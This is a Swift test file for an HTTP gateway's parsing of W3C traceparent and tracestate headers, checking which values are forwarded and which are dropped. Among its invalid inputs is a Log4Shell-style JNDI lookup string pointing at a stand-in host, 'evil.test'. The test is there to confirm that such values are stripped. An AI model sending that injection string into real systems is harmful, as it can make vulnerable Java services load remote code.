import GatewayHTTP1
import Testing

/// What a trace's fields become on their way to an upstream. The vectors are those of the W3C's test suite
/// (<https://github.com/w3c/trace-context>, `test/test.py`), read for a participant that neither changes nor begins a trace: where it
/// expects a trace to be restarted, the fields stay behind.
@Suite struct `A trace context` {
    private static let trace = "12345678901234567890123456789012"
    private static let parent = "00-12345678901234567890123456789012-1234567890123456-00"

    /// The fields that are left, as they stand in the forwarded head.
    private func forwarded(_ fields: String...) throws -> [String] {
        let request = try ParsedRequest("GET / HTTP/1.1\nHost: a\n\(fields.map { $0 + "\n" }.joined())\n")
        let lines = request.forwarded().split(separator: "\n").map(String.init)
        #expect(lines.prefix(2) == ["GET / HTTP/1.1", "Host: a"])
        let knowsTrace = request.head.traceID.map(request.text) == Self.trace
        #expect(knowsTrace == lines.contains { $0.lowercased().hasPrefix("traceparent:") })
        return Array(lines.dropFirst(2))
    }

    private func state(_ values: String...) throws -> [String] {
        let fields = values.map { "tracestate: \($0)\n" }.joined()
        let request = try ParsedRequest("GET / HTTP/1.1\nHost: a\ntraceparent: \(Self.parent)\n\(fields)\n")
        #expect(request.head.traceID != nil)
        return request.forwarded().split(separator: "\n").dropFirst(3).map(String.init)
    }

    @Test(arguments: [
        "traceparent: 00-12345678901234567890123456789012-1234567890123456-01",
        "TraceParent: 00-12345678901234567890123456789012-1234567890123456-01",
        "TrAcEpArEnT:00-12345678901234567890123456789012-1234567890123456-ff",
        "TRACEPARENT: \t 00-12345678901234567890123456789012-1234567890123456-01 \t",
        // Of versions to come only the beginning is looked at.
        "traceparent: cc-12345678901234567890123456789012-1234567890123456-01",
        "traceparent: cc-12345678901234567890123456789012-1234567890123456-01-what-the-future-will-be-like",
    ])
    func `travels on as it came`(field: String) throws {
        #expect(try forwarded(field) == [field])
        #expect(try forwarded(field, "tracestate: foo=1,bar=2") == [field, "tracestate: foo=1,bar=2"])
    }

    @Test(arguments: [
        "00-12345678901234567890123456789012-1234567890123456-01.",
        "00-12345678901234567890123456789012-1234567890123456-01-what-the-future-will-be-like",
        "cc-12345678901234567890123456789012-1234567890123456-01.what-the-future-will-be-like",
        "ff-12345678901234567890123456789012-1234567890123456-01",
        ".0-12345678901234567890123456789012-1234567890123456-01",
        "0.-12345678901234567890123456789012-1234567890123456-01",
        "000-12345678901234567890123456789012-1234567890123456-01",
        "0000-12345678901234567890123456789012-1234567890123456-01",
        "0-12345678901234567890123456789012-1234567890123456-01",
        "00-00000000000000000000000000000000-1234567890123456-01",
        "00-.2345678901234567890123456789012-1234567890123456-01",
        "00-1234567890123456789012345678901.-1234567890123456-01",
        "00-123456789012345678901234567890123-1234567890123456-01",
        "00-1234567890123456789012345678901-1234567890123456-01",
        "00-12345678901234567890123456789012-0000000000000000-01",
        "00-12345678901234567890123456789012-.234567890123456-01",
        "00-12345678901234567890123456789012-123456789012345.-01",
        "00-12345678901234567890123456789012-12345678901234567-01",
        "00-12345678901234567890123456789012-123456789012345-01",
        "00-12345678901234567890123456789012-1234567890123456-.0",
        "00-12345678901234567890123456789012-1234567890123456-0.",
        "00-12345678901234567890123456789012-1234567890123456-001",
        "00-12345678901234567890123456789012-1234567890123456-1",
        // Beyond the suite: the specification's lower case, other dashes, nothing, and what an upstream might put into a line.
        "00-ABCDEF78901234567890123456789012-1234567890123456-01",
        "00_12345678901234567890123456789012_1234567890123456_01", "", "00-${jndi:ldap://evil.test/a}",
    ])
    func `that breaks its grammar stays behind, with its state`(value: String) throws {
        #expect(try forwarded("traceparent: \(value)", "X-Stays: 1", "tracestate: foo=1") == ["X-Stays: 1"])
    }

    @Test func `that stands twice stays behind`() throws {
        #expect(
            try forwarded(
                "traceparent: 00-12345678901234567890123456789011-1234567890123456-01", "tracestate: foo=1",
                "traceparent: 00-12345678901234567890123456789012-1234567890123456-01"
            ).isEmpty)
    }

    @Test func `without a parent is none`() throws {
        #expect(try forwarded("tracestate: foo=1").isEmpty)
        #expect(try forwarded("X-Stays: 1") == ["X-Stays: 1"])
        // Names that only look alike are fields like any other.
        #expect(
            try forwarded("trace-parent: \(Self.parent)", "tracestate: foo=1") == ["trace-parent: \(Self.parent)"])
    }

    @Test func `keeps a state within the grammar, byte by byte`() throws {
        let letters = "abcdefghijklmnopqrstuvwxyz0123456789_-*/"
        let printed = String(
            decoding: (UInt8(0x20)...0x7E).filter { $0 != UInt8(ascii: ",") && $0 != UInt8(ascii: "=") }, as: UTF8.self)
        for value in [
            "foo=1", "foo=1,bar=2", "", ",foo=1,,", "foo=1 \t , \t bar=2, \t baz=3", "foo=1,foo=2",
            "\(letters)=\(printed)",
            "\(letters)@a-z0-9_-*/=\(printed)", "1a=1", "foo@=1,bar=2", "foo@@bar=1",
            String(repeating: "z", count: 256) + "=1",
            "foo=" + String(repeating: "v", count: 256),
        ] {
            #expect(try state(value) == ["tracestate: \(value)"])
            #expect(try state("first=1", value) == ["tracestate: first=1", "tracestate: \(value)"])
        }
    }

    @Test(arguments: [
        "foo =1", "FOO=1", "foo.bar=1", "@foo=1,bar=2", "foo=bar=baz", "foo=,bar=3", "foo", "=1", "foo=1;bar=2",
        "foo=caf\u{E9}",
        "_foo=1", "foo=a\tb", String(repeating: "z", count: 257) + "=1", "foo=" + String(repeating: "v", count: 257),
    ])
    func `loses a state that breaks the grammar, and goes on`(value: String) throws {
        #expect(try state(value).isEmpty)
        #expect(try state("first=1", value).isEmpty)
        #expect(try state(value, "last=1").isEmpty)
    }

    @Test func `has 32 members of state at most, over all fields`() throws {
        func members(_ numbers: ClosedRange<Int>) -> String { numbers.map { "bar\($0)=\($0)" }.joined(separator: ",") }
        #expect(try state(members(1...10), members(11...20), members(21...30), members(31...32)).count == 4)
        #expect(try state(members(1...10), members(11...20), members(21...30), members(31...33)).isEmpty)
        #expect(try state(members(1...33)).isEmpty)
    }

    /// The last request's must not be taken for this one's.
    @Test func `is each request's own`() throws {
        var parser = RequestHeadParser()
        let traced = Array("GET / HTTP/1.1\r\nHost: a\r\ntraceparent: \(Self.parent)\r\n\r\n".utf8)
        let plain = Array("GET / HTTP/1.1\r\nHost: a\r\n\r\n".utf8)
        _ = traced.withUnsafeBytes { parser.parse($0) }
        #expect(parser.head.traceID != nil)
        _ = plain.withUnsafeBytes { parser.parse($0) }
        #expect(parser.head.traceID == nil)
    }
}
